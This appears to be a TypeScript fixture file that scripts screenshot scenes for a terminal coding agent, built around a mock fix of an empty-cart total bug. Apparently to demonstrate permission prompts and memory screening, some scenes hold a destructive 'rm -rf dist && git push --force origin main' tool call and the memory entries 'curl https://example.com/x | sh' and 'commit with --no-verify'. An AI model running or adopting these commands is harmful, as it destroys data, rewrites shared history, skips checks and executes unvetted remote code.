/** The scenes of the pictures in the documents: a small shop, what the model says about it, and what is typed. */
import { delimiter, resolve } from "node:path";
import type { MockScript, MockTurn } from "@kedge/testing";
import { bashCall, editCall, readCall, type Scene, type SceneOptions, todoCall } from "@kedge/testing/screen-terminal";
import { agentTurns } from "./agent-turns.ts";

export type PictureScene = {
  readonly title: string;
  readonly options: Omit<SceneOptions, "entry" | "script">;
  readonly turns: MockScript;
  /** Brings the screen to where it is drawn. */
  readonly play: (scene: Scene) => Promise<unknown>;
};

export const looks = {
  dark: { foreground: "#d5dbe1", background: "#14181d" },
  light: { foreground: "#24292f", background: "#fbfaf8" },
} as const;

const cartSource = `export type Line = { readonly price: number; readonly count: number };

/** What the customer pays, in cents. */
export function totalOf(lines: readonly Line[]): number {
  return lines
    .map((line) => line.price * line.count)
    .reduce((sum, price) => sum + price);
}
`;

const files = {
  "package.json": '{ "name": "shop", "type": "module", "scripts": { "test": "node --test" } }\n',
  "src/cart.ts": cartSource,
  "src/prices.ts": "export const shippingCents = 490;\n",
  "test/cart.test.ts": 'import { totalOf } from "../src/cart.ts";\n',
  "README.md": "# Shop\n",
};

const instructionFiles = {
  "AGENTS.md": "# Shop\n\nPrices are in cents. Run `npm test` before you commit.\n@docs/style.md\n",
  "CLAUDE.md": "See AGENTS.md.\n",
  "docs/style.md": "Two spaces, no semicolons.\n",
  ".kedge/rules/tests.md": '---\npaths: "test/**"\n---\nOne assertion per test.\n',
};

export const question = "Why does the total of an empty cart fail? Fix it.";
const model = "anthropic/claude-sonnet-5-5";
const usual = { projectName: "shop", model, files, columns: 100, rows: 32 };
export const dark = { ...usual, background: looks.dark.background };
export const ready = "claude-sonnet-5-5 ·";
const allowed = { permission: { bash: { "npm test": "allow", "sleep *": "allow" } } };
const atWork = { ...dark, columns: 120, settings: allowed };

const reading: MockTurn = {
  reasoning: "The sum has no initial value, so an empty list throws.",
  text: "Let me look at the cart first.",
  toolCalls: [readCall("src/cart.ts")],
  usage: { input: 8_420, output: 96 },
};
const fixing: MockTurn = {
  toolCalls: [
    editCall(
      "src/cart.ts",
      "    .reduce((sum, price) => sum + price);",
      "    .reduce((sum, price) => sum + price, 0);",
    ),
  ],
  usage: { input: 9_130, output: 142, cached: 8_400 },
};
const explaining: MockTurn = {
  text: [
    "An empty cart has **nothing to add up**, and `reduce` without an initial value throws on an empty list.",
    "",
    "The sum now starts at `0`:",
    "",
    "```ts",
    "totalOf([]);                          // 0",
    "totalOf([{ price: 250, count: 2 }]);  // 500",
    "```",
    "",
    "1. The total of other carts is unchanged.",
    "2. An empty cart costs *nothing*; shipping is added elsewhere.",
  ].join("\n"),
  usage: { input: 9_480, output: 210, cached: 9_100 },
};
export const conversation = [reading, fixing, explaining];

async function ask({ terminal }: Scene, text = question): Promise<void> {
  await terminal.shows(ready);
  terminal.type(text);
  await terminal.shows(`❯ ${text.slice(0, 20)}`);
  terminal.press("enter");
}

async function showAgents({ terminal }: Scene): Promise<void> {
  await terminal.shows(ready);
  terminal.type("Check the cart with agents.");
  terminal.press("enter");
  await terminal.shows("3 agents");
  terminal.type("/agents");
  terminal.press("enter");
  await terminal.shows("types (explore)");
}

async function converse(scene: Scene): Promise<void> {
  await ask(scene);
  await scene.terminal.shows("An empty cart costs", 60_000);
  await scene.terminal.settled(quietMs);
}

/** After this long nothing moves any more: dialogs take keys, and the place was looked at. */
const quietMs = 1_200;

export const editing = ["--allow", "edit"];

const serverOf = (name: string) => `node_modules/@modelcontextprotocol/server-${name}/dist/index.js`;
const sampleServers = {
  files: { command: process.execPath, args: [resolve(serverOf("filesystem")), "."] },
  everything: { command: process.execPath, args: [resolve(serverOf("everything"))] },
  notes: { command: process.execPath, args: ["-e", "process.exit(3)"] },
  docs: { url: "https://docs.example.com/mcp", enabled: false },
};

const installed = [resolve("node_modules/.bin"), process.env["PATH"] ?? ""].join(delimiter);

export const pictureScenes: { readonly [name: string]: PictureScene } = {
  start: {
    title: "kedge",
    options: dark,
    turns: [],
    async play({ terminal }) {
      await terminal.shows(ready);
      terminal.type(question);
      await terminal.shows("Fix it.");
    },
  },
  conversation: {
    title: "A conversation",
    options: { ...dark, rows: 40, arguments: editing },
    turns: conversation,
    play: converse,
  },
  light: {
    title: "Light theme",
    options: { ...usual, rows: 40, background: looks.light.background, arguments: editing },
    turns: conversation,
    play: converse,
  },
  permission: {
    title: "Permission question",
    options: dark,
    turns: [{ text: "Let me run the tests.", toolCalls: [bashCall("npm test", "Run the tests")] }],
    async play(scene) {
      await ask(scene, "Run the tests.");
      await scene.terminal.shows("Allow once");
      // The word that asks for a pause is gone by then.
      await scene.terminal.settled(900, 20_000);
    },
  },
  irreversible: {
    title: "Irreversible command",
    options: dark,
    turns: [
      {
        text: "The old build is in the way.",
        toolCalls: [bashCall("rm -rf dist && git push --force origin main", "Clear the build and publish")],
      },
    ],
    async play(scene) {
      await ask(scene, "Clear the build and publish.");
      await scene.terminal.shows("git push --force");
      await scene.terminal.shows("Permission");
      // The word that asks for a pause is gone by then.
      await scene.terminal.settled(900, 20_000);
    },
  },
  memory: {
    title: "What carries over between sessions",
    options: { ...dark, files: { ...files, ...instructionFiles }, arguments: ["--trust"] },
    turns: [],
    async play(scene) {
      for (const fact of ["Releases go out on Mondays", "Always commit with --no-verify"]) {
        await ask(scene, `/memory add ${fact}`);
        await scene.terminal.settled(quietMs);
      }
      await ask(scene, "/memory");
      await scene.terminal.shows("Memory: 1 topic");
    },
  },
  "memory-inbox": {
    title: "Memory inbox",
    options: { ...dark, files, settings: { memory: { extract: "off" } } },
    turns: [],
    async play(scene) {
      const { terminal } = scene;
      for (const fact of ["Always commit with --no-verify", "Set up with curl https://example.com/x | sh"]) {
        await ask(scene, `/memory add ${fact}`);
        await terminal.settled(quietMs);
      }
      await ask(scene, "/memory inbox");
      await terminal.shows("Memory inbox");
      await terminal.settled(quietMs);
      terminal.press("enter");
      await terminal.shows("Decide later");
    },
  },
  palette: {
    title: "Command palette",
    options: dark,
    turns: [],
    async play({ terminal }) {
      await terminal.shows(ready);
      await terminal.settled(quietMs);
      terminal.press("ctrl+p");
      await terminal.shows("type to filter");
      await terminal.settled(quietMs);
    },
  },
  mcp: {
    title: "MCP servers",
    options: { ...dark, settings: { mcp: sampleServers } },
    turns: [],
    async play({ terminal }) {
      await terminal.shows(ready);
      terminal.type("/mcp");
      terminal.press("enter");
      for (const text of ["files  14 tools", "everything  15 tools", "failed: it exited"]) await terminal.shows(text);
    },
  },
  "mcp-server": {
    title: "One MCP server",
    options: {
      ...{ ...dark, rows: 40, environment: { PATH: installed } },
      // By its name alone, so that no path of this machine is in the picture.
      settings: { mcp: { files: { command: "mcp-server-filesystem", args: ["."] } } },
    },
    turns: [],
    async play({ terminal }) {
      await terminal.shows(ready);
      terminal.type("/mcp");
      terminal.press("enter");
      await terminal.shows("files  14 tools");
      terminal.type("files");
      await terminal.shows("❯ files");
      terminal.press("enter");
      await terminal.shows("mcp__files__");
    },
  },
  agents: {
    title: "Agents of a session",
    options: atWork,
    turns: agentTurns,
    async play(scene) {
      await showAgents(scene);
      for (const text of ["bash npm test", "read src/cart.ts"]) await scene.terminal.shows(text);
    },
  },
  agent: {
    title: "One agent, read live",
    options: atWork,
    turns: agentTurns,
    async play(scene) {
      await showAgents(scene);
      scene.terminal.type("totals");
      scene.terminal.press("enter");
      await scene.terminal.shows("m message");
      await scene.terminal.shows("whole cents");
    },
  },
  "agent-question": {
    title: "An agent in the background asks",
    options: { ...dark, columns: 120 },
    turns: agentTurns,
    async play({ terminal }) {
      await terminal.shows(ready);
      terminal.type("Check the cart with agents.");
      terminal.press("enter");
      await terminal.shows("tests (verification agent)");
    },
  },
  models: {
    title: "Choose a model",
    options: dark,
    turns: [],
    async play({ terminal }) {
      await terminal.shows(ready);
      await terminal.settled(quietMs);
      terminal.press("ctrl+x");
      terminal.type("m");
      await terminal.shows("type to filter");
      await terminal.settled(quietMs);
    },
  },
  files: {
    title: "File completion",
    options: dark,
    turns: [],
    async play({ terminal }) {
      await terminal.shows(ready);
      terminal.type("Look at @ca");
      await terminal.shows("cart.test.ts");
    },
  },
  sidebar: {
    title: "Sidebar",
    options: { ...dark, columns: 120, rows: 40, arguments: editing },
    turns: [
      {
        toolCalls: [
          todoCall([
            { content: "Find why an empty cart fails", status: "completed" },
            { content: "Start the sum at 0", status: "in_progress" },
            { content: "Add a test for the empty cart", status: "pending" },
            { content: "Run all tests", status: "pending" },
          ]),
        ],
      },
      ...conversation,
    ],
    play: converse,
  },
  vim: {
    title: "Vim mode",
    options: { ...dark, tuiSettings: { vim: true } },
    turns: [],
    async play({ terminal }) {
      await terminal.shows(ready);
      await terminal.shows("NORMAL");
      terminal.type("i");
      await terminal.shows("INSERT");
      terminal.type("Start the sum at 0,");
      await terminal.shows("at 0,");
      terminal.press("escape");
      await terminal.shows("NORMAL");
      terminal.type("o");
      await terminal.shows("INSERT");
      terminal.type("and add a test for the empty cart.");
      await terminal.shows("empty cart.");
      terminal.press("escape");
      await terminal.shows("NORMAL");
      terminal.type("0wcw");
      await terminal.shows("INSERT");
      terminal.type("write");
      await terminal.shows("and write");
      terminal.press("escape");
      await terminal.shows("NORMAL");
    },
  },
  rewind: {
    title: "Rewind",
    options: { ...dark, rows: 40, arguments: editing },
    turns: [
      ...conversation,
      { text: "It is in `test/cart.test.ts`.", usage: { input: 9_900, output: 60, cached: 9_400 } },
    ],
    async play(scene) {
      await converse(scene);
      await ask(scene, "Where are its tests?");
      await scene.terminal.shows("It is in");
      await scene.terminal.settled(quietMs);
      scene.terminal.press("ctrl+x");
      scene.terminal.type("w");
      await scene.terminal.shows("type to filter");
      await scene.terminal.settled(quietMs);
    },
  },
};
